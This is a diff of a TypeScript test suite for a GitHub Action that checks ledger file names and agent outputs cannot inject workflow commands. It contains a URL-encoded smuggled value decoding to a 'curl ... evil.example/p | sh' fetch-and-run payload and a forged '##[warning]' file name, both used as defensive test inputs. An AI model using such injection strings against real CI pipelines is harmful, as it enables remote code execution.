@@ -11,7 +11,7 @@ import { run } from '../../src/action/run.js';
 import { verifyReceipt } from '../../src/receipt/json.js';
 import { addAgentPullRequest } from '../support/fake-github/builders.js';
 import { startFakeGitHub, type FakeGitHub } from '../support/fake-github/index.js';
-import { pullRequestPayload, readOutputs, runnerEnv, runnerFiles, webhookExample, workflowCommands, type RunnerFiles } from './harness.js';
+import { pullRequestPayload, readOutputs, runnerCommands, runnerEnv, runnerFiles, webhookExample, workflowCommands, type RunnerFiles } from './harness.js';
 
 const REPO = 'acme/widgets';
 
@@ -545,6 +545,26 @@ describe('ledger files from an earlier step', () => {
     for (const name of ['agents', 'models']) expect(result.outputs[name]).toMatch(/^[A-Za-z0-9._:/@+%,-]*$/);
     expect(result.outputs['agents']!.split(',')).toContain('claude-code');
     expect(result.outputs['agents']!.split(',')).toContain('x%22%3B%20curl%20-s%20https://evil.example/p%20%7C%20sh%3B%20echo%20%22');
+  });
+
+  it("logs a ledger file name holding the runner's older `##[command]` form inert, wherever in the line it is", async () => {
+    addAgentPullRequest(fake, { policy: POLICY });
+    const payload = pullRequestPayload(fake, REPO, 1);
+    files = await runnerFiles(payload);
+    await mkdir(path.join(files.dir, 'ledgers'));
+    await writeFile(
+      path.join(files.dir, 'ledgers', 's ##[warning]forged.jsonl'),
+      '{"proofgate":"session/1","id":"s","agent":"claude-code","startedAt":"2026-01-10T12:00:00Z"}\n',
+    );
+    const kept = files;
+    files = null;
+    const result = await step({ payload, inputs: { ledger: 'ledgers' }, workspace: kept.dir });
+    await kept.cleanup();
+    const commands = runnerCommands(result.stdout);
+    expect(commands.filter((c) => c.command === 'warning').map((c) => c.data)).toEqual([]);
+    // The receipt is printed between proofgate's own stop-commands and its token: nothing in it is a command.
+    expect(commands.map((c) => c.command)).toContain('stop-commands');
+    expect(result.stdout).toContain('ledger files: ledgers/s #\\u{23}[warning]forged.jsonl (proofgate-session)');
   });
 
   it('a listed ledger that is missing fails closed with a check run that says why', async () => {
